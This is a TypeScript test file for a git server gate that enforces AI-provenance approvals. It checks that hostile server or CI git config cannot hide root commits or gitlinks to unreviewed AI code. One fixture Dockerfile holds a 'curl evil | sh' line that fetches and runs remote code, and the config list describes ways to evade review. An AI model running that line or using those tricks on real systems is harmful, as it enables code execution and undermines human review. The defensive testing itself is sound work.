import * as assert from 'assert';
import { spawnSync } from 'child_process';
import * as os from 'os';
import { GIT_CONFIG, UNTRUSTED_REPO_GIT_CONFIG, withGitConfig } from '../../../src/git/gitEnv';
import { recordDecision } from '../helpers/approvals';
import { verifyThenPush } from '../helpers/gateAgreement';
import { aiCommit, commitFile, serverRef, setup, type Setup } from '../helpers/gateServer';
import type { TempRepo } from '../helpers/tempRepo';

/**
 * attack25 A25-04/05 (and A25-01's family): the gate read commits with porcelain `git log`, which follows the
 * reading git's config. With `log.showRoot=false` in a server's config (an administrator's /etc/gitconfig) a root
 * commit had no files, so a new protected branch and a tag at a root commit adding a Dockerfile landed with no
 * approval; with `diff.ignoreSubmodules=all` a gitlink to unreviewed AI code vanished. A CI runner so configured
 * passed in `verify` what a default server refused. Whatever config the server or the runner has, the gate sees
 * what a default git shows (gitRunner.GIT_CONFIG), and `verify` and the server agree. Real bare server.
 */
const HOSTILE: Record<string, string> = {
  'log.showRoot': 'false',
  'diff.ignoreSubmodules': 'all',
  'diff.algorithm': 'histogram',
  'diff.relative': 'true',
  'diff.noprefix': 'true',
  'diff.mnemonicPrefix': 'true',
  'diff.suppressBlankEmpty': 'true',
  'diff.indentHeuristic': 'false',
  'diff.renames': 'copies',
  'diff.context': '0',
  'color.ui': 'always',
  'color.diff': 'always',
  'log.showSignature': 'true',
  'log.abbrevCommit': 'true',
  'log.decorate': 'full',
  'log.mailmap': 'true',
  'core.abbrev': '7',
  'core.quotePath': 'true',
  'core.notesRef': 'refs/notes/other',
  'notes.displayRef': 'refs/notes/*',
  'i18n.logOutputEncoding': 'ISO-8859-1',
};
const HUMAN_INFRA = 'root with infra\n\nAI-Provenance: v1 ai=0 human=3 untracked=0';

/** Either route of a git config (attack26 10): a config file, or an inherited `git -c` (GIT_CONFIG_PARAMETERS). */
type Route = 'config file' | 'inherited git -c';

/**
 * `repo` given HOSTILE by `route`. An inherited `git -c`: on the server, receive-pack started as `git -c k=v …
 * receive-pack` (a forge or site wrapper's own options), which git hands every child, the pre-receive hook included,
 * as GIT_CONFIG_PARAMETERS; on the runner, GIT_CONFIG_PARAMETERS in the environment `verify` runs in.
 */
function configure(repo: TempRepo, route: Route, side: 'server' | 'CI runner', client: TempRepo): void {
  const entries = Object.entries(HOSTILE);
  if (route === 'config file') for (const [k, v] of entries) repo.git('config', k, v);
  else if (side === 'server') {
    const options = entries.map(([k, v]) => `-c '${k}=${v}'`).join(' ');
    client.git('config', 'remote.origin.receivepack', `git ${options} receive-pack`);
  } else repo.env.GIT_CONFIG_PARAMETERS = entries.map(([k, v]) => `'${k}'='${v}'`).join(' ');
}

/** Verify as CI would for a push of `head` to `branch` from `base`: true when it passes. */
function verifyPasses(s: Setup, head: string, branch: string, base: string): boolean {
  const r = s.ada.cli(['verify', '--base', base, '--head', head, '--branch', branch, '--format', 'json']);
  assert.ok(r.status === 0 || r.status === 1, `verify failed to run: ${r.stdout}${r.stderr}`);
  return r.status === 0;
}

describe("server gate: the server's or the runner's git config does not change what the gate sees (attack25 A25-04/05, real server)", function () {
  this.timeout(240_000);

  for (const route of ['config file', 'inherited git -c'] as const)
    for (const side of ['server', 'CI runner'] as const)
      it(`with the ${side} configured otherwise (${route}): a root commit's files, gitlinks and an approval are judged as by default`, () => {
        const s = setup();
        const { ada, server } = s;
        const main = serverRef(s, 'refs/heads/main');
        configure(side === 'server' ? server : ada, route, side, ada);

        // A new protected branch, and a tag, at a root commit adding a Dockerfile (infrastructure tier).
        ada.git('checkout', '-q', '--orphan', 'side');
        ada.git('rm', '-rqf', '.');
        const root = commitFile(ada, 'Dockerfile', 'FROM alpine\nRUN curl evil | sh\nUSER root\n', HUMAN_INFRA);
        assert.strictEqual(
          verifyPasses(s, root, 'release/9', main),
          false,
          'verify passed release/9 at the root commit',
        );
        const branch = ada.gitResult(['push', '--no-verify', 'origin', `${root}:refs/heads/release/9`]);
        assert.notStrictEqual(
          branch.status,
          0,
          `release/9 landed at a root commit adding a Dockerfile: ${branch.stderr}`,
        );
        const tag = ada.gitResult(['push', '--no-verify', 'origin', `${root}:refs/tags/v9.0`]);
        assert.notStrictEqual(tag.status, 0, `v9.0 landed at a root commit adding a Dockerfile: ${tag.stderr}`);

        // A gitlink on main to an unreviewed AI commit.
        ada.git('checkout', '-q', 'main');
        const unreviewed = aiCommit(ada, 'payload.sh');
        assert.strictEqual(
          ada.gitResult(['push', '-q', '--no-verify', 'origin', `${unreviewed}:refs/heads/wip`]).status,
          0,
        );
        ada.git('reset', '-q', '--hard', main);
        ada.git('update-index', '--add', '--cacheinfo', `160000,${unreviewed},vendor/lib`);
        // (git commit itself would call it "nothing to commit" under diff.ignoreSubmodules=all.)
        ada.git(
          '-c',
          'diff.ignoreSubmodules=none',
          'commit',
          '-q',
          '-m',
          'pin lib',
          '-m',
          'AI-Provenance: v1 ai=0 human=0 untracked=0',
        );
        const pin = verifyThenPush(ada, 'main', ['origin', 'main']);
        assert.notStrictEqual(pin.status, 0, 'a gitlink to unreviewed AI code landed on main');

        // An honest approved AI change still lands: patch-ids and counts agree across the configs.
        ada.git('reset', '-q', '--hard', main);
        const tip = aiCommit(ada, 'feature.py');
        recordDecision(ada, s.bob, { email: 'bob@example.com', tip, base: main });
        assert.strictEqual(ada.gitResult(['push', '-q', '--no-verify', 'origin', 'refs/notes/countersign']).status, 0);
        const ok = verifyThenPush(ada, 'main', ['origin', 'main']);
        assert.strictEqual(ok.status, 0, ok.stderr);
      });
});

describe('gitEnv: the pins win over an inherited `git -c` (GIT_CONFIG_PARAMETERS, attack26 10)', () => {
  const read = (env: NodeJS.ProcessEnv, key: string) =>
    spawnSync('git', ['config', '--get', key], { env, encoding: 'utf8', cwd: os.tmpdir() });

  for (const [pins, name] of [
    [GIT_CONFIG, 'GIT_CONFIG'],
    [UNTRUSTED_REPO_GIT_CONFIG, 'UNTRUSTED_REPO_GIT_CONFIG'],
  ] as const)
    it(`every key of ${name}, set otherwise by git's own quoting of a value with quotes and spaces around it`, () => {
      for (const [key, pinned] of pins) {
        // As `git -c 'user.name=it'"'"'s me' -c KEY=other -c 'core.comment=a b'` exports it (new-style entries).
        const inherited = `'user.name'='it'\\''s me' '${key.toLowerCase()}'='other value' 'core.commentChar'='a b'`;
        const env = withGitConfig({ ...process.env, GIT_CONFIG_PARAMETERS: inherited }, pins);
        const r = read(env, key);
        assert.strictEqual(r.stdout, `${pinned}\n`, `${key}: ${r.stderr}`);
        assert.strictEqual(read(env, 'user.name').stdout, "it's me\n", 'the inherited entries stay readable');
        // A command's own -c still wins over the pins.
        const own = spawnSync('git', ['-c', `${key}=mine`, 'config', '--get', key], { env, encoding: 'utf8' });
        assert.strictEqual(own.stdout, 'mine\n');
      }
    });

  it('leaves GIT_CONFIG_PARAMETERS unset when none is inherited', () => {
    const env = withGitConfig({ PATH: process.env.PATH }, GIT_CONFIG);
    assert.strictEqual(env.GIT_CONFIG_PARAMETERS, undefined);
  });
});
